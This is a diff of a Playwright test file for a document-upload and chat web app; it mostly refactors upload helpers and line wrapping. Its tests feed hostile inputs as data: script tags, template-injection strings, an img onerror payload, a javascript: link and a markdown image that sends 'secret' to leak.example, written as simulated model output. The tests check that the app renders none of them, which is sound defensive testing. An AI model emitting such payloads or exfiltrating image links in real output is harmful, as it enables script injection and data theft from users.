@@ -31,6 +31,10 @@ def uploads_done(page: Any, files: int = 1) -> None:
     assert page.locator(".upload").count() == files
 
 
+def upload(name: str, content: bytes) -> Any:
+    return {"name": name, "mimeType": "application/octet-stream", "buffer": content}
+
+
 def titled(page: Any, name: str) -> Any:
     return page.locator(f"li.document:has(.open[title*={name!r}])")
 
@@ -50,7 +54,8 @@ def one_page_pdf(text: str, title: str = "") -> bytes:
     objects = [
         b"<< /Type /Catalog /Pages 2 0 R >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+        b"/Resources << /Font << /F1 5 0 R >> >> >>",
         b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream",
         b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
         b"<< /Title (" + escaped + b") >>",
@@ -70,8 +75,8 @@ def test_a_damaged_and_a_good_file_together(app: RunningApp, visit: Visit) -> No
     page.set_input_files(
         ".pick-files",
         [
-            {"name": "damaged.pdf", "mimeType": "application/pdf", "buffer": b"%PDF-1.7 and then nothing of the sort"},
-            {"name": "letter.pdf", "mimeType": "application/pdf", "buffer": one_page_pdf("The crane lifts 40 tonnes at the north berth.")},
+            upload("damaged.pdf", b"%PDF-1.7 and then nothing of the sort"),
+            upload("letter.pdf", one_page_pdf("The crane lifts 40 tonnes at the north berth.")),
         ],
     )
     uploads_done(page, 2)
@@ -165,7 +170,7 @@ def test_cancelling_while_files_are_added(app: RunningApp, visit: Visit) -> None
     page = visit(app)
     before = page.locator("li.document").count()
     long = "\n\n".join(f"Entry {n}: the tide gauge at berth {n % 17} read {n} millimetres." for n in range(60_000))
-    page.set_input_files(".pick-files", [{"name": "tide-log.txt", "mimeType": "text/plain", "buffer": long.encode()}])
+    page.set_input_files(".pick-files", [upload("tide-log.txt", long.encode())])
     page.wait_for_selector(".upload.working")
     page.click(".upload.working [data-do=cancel]")
     page.wait_for_selector(".upload.cancelled", timeout=20_000)
@@ -182,7 +187,7 @@ def test_cancelling_while_files_are_added(app: RunningApp, visit: Visit) -> None
 
 def test_removing_asks_first_and_closes_the_page(app: RunningApp, visit: Visit) -> None:
     page = visit(app)
-    page.set_input_files(".pick-files", [{"name": "gone-soon.txt", "mimeType": "text/plain", "buffer": LETTER.encode()}])
+    page.set_input_files(".pick-files", [upload("gone-soon.txt", LETTER.encode())])
     uploads_done(page)
     row = titled(page, "gone-soon.txt")
     row.locator(".open").click()
@@ -201,8 +206,8 @@ def test_names_titles_and_text_of_documents_run_nothing(app: RunningApp, visit: 
     page.set_input_files(
         ".pick-files",
         [
-            {"name": HOSTILE_NAME, "mimeType": "text/plain", "buffer": (LETTER + "<script>alert(6)</script> ${alert(7)}").encode()},
-            {"name": "titled.pdf", "mimeType": "application/pdf", "buffer": one_page_pdf("The pilot boat sails at dusk.", title)},
+            upload(HOSTILE_NAME, (LETTER + "<script>alert(6)</script> ${alert(7)}").encode()),
+            upload("titled.pdf", one_page_pdf("The pilot boat sails at dusk.", title)),
         ],
     )
     uploads_done(page, 2)
@@ -219,7 +224,8 @@ def test_names_titles_and_text_of_documents_run_nothing(app: RunningApp, visit: 
     assert page.locator("#viewer h2").inner_text() == title
     ask(page, "When does the harbour office open?")
     finished(page)
-    assert page.evaluate("document.querySelectorAll('#library img, #chat img, #library script, #chat script').length") == 0
+    active = "document.querySelectorAll(':is(#library, #chat) :is(img, script)').length"
+    assert page.evaluate(active) == 0
     for text in ("${alert(1)}", "${alert(4)}"):
         row = page.locator("li.document", has_text=text)
         row.hover()
@@ -234,8 +240,8 @@ def test_what_a_model_writes_runs_nothing_and_loads_nothing(
     model.pause = 0.0
     model.reply = (
         "Risk is named <script>alert(1)</script> <img src=http://leak.example/a.png onerror=alert(2)> "
-        "![x](http://leak.example/b.png?q=secret) [here](http://leak.example/c) <a href=\"javascript:alert(3)\">x</a> "
-        "<button class=\"cite\" value=\"forged.1\">forged</button> ${alert(4)} [procurement-handbook.pdf p.5].\n\n"
+        '![x](http://leak.example/b.png?q=secret) [here](http://leak.example/c) <a href="javascript:alert(3)">x</a> '
+        '<button class="cite" value="forged.1">forged</button> ${alert(4)} [procurement-handbook.pdf p.5].\n\n'
         "`code <b>` and | a | b |"
     )
     page = visit(app_with_model)
@@ -274,7 +280,9 @@ def test_a_forged_pill_or_address_finds_nothing(app: RunningApp, visit: Visit) -
     assert status_of(base, {"Host": "evil.example"}) == 403
 
 
-def test_stopping_an_answer_keeps_what_was_written(app_with_model: RunningApp, model: ModelServer, visit: Visit) -> None:
+def test_stopping_an_answer_keeps_what_was_written(
+    app_with_model: RunningApp, model: ModelServer, visit: Visit
+) -> None:
     model.reply = "slowly " * 600
     model.pause = 0.05
     page = visit(app_with_model)
